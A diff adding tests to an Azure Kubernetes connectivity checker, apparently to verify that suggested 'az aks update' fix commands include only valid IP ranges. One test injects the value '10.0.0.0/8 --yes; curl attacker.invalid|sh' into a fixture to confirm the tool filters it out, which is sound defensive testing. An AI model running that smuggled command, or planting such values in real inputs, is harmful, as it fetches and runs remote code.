@@ -228,6 +228,14 @@ def test_the_failures_say_what_to_do(outcomes):
         "az aks update -g rg-web-prod-weu -n aks-web-prod-weu --enable-run-command"
     ]
     assert outcomes["private/run-command-disabled.yaml"].arm_bodies == [], "never tried"
+    # A public API server that leaves the bot out of its authorized ranges: the bot's
+    # address joins the ranges it has (the flag replaces the list).
+    report = outcomes["private/authorized-ranges-run-command-disabled.yaml"].report
+    (outside,) = _by_code(report, "KUBE_UNREACHABLE")
+    assert outside["fix"][1] == (
+        "az aks update -g rg-web-prod-weu -n aks-web-prod-weu --api-server-authorized-ip-ranges "
+        "203.0.113.0/24,198.51.100.17/32,'<bot-egress-cidr>'"
+    )
     (denied,) = _by_code(outcomes["private/run-command-forbidden.yaml"].report, "KUBE_UNREACHABLE")
     assert "managedClusters/runCommand/action" in denied["detail"]
     assert denied["fix"][0].startswith("az role assignment create")
@@ -363,3 +371,21 @@ def test_the_pods_own_view_and_coredns_are_read_through_run_command(world, outco
     report = outcomes[f"pod/{world}"].report
     assert report["rootCause"] == POD_EXPECTED[world]["rootCause"] == POD_VIEWS[world]
     assert report["stats"]["runCommands"] == 2
+
+
+def test_hostile_authorized_ranges_never_reach_the_fix(run_check, tmp_path):
+    """The cluster's own ranges go into the fix line only when each is an IP network."""
+    world = WORLDS / "private" / "authorized-ranges-run-command-disabled.yaml"
+    data = yaml.safe_load(world.read_text())
+    for resource in data["arm"]:
+        profile = resource.get("properties", {}).get("apiServerAccessProfile")
+        if profile:
+            profile["authorizedIPRanges"].append("10.0.0.0/8 --yes; curl attacker.invalid|sh")
+    hostile = tmp_path / "hostile.yaml"
+    hostile.write_text(yaml.safe_dump(data))
+    code, report = run_check("web-prod-weu", "https://api.github.com", "--world", str(hostile))
+    assert code == 0
+    (outside,) = _by_code(report, "KUBE_UNREACHABLE")
+    assert outside["fix"] == [
+        "az aks update -g rg-web-prod-weu -n aks-web-prod-weu --enable-run-command"
+    ]
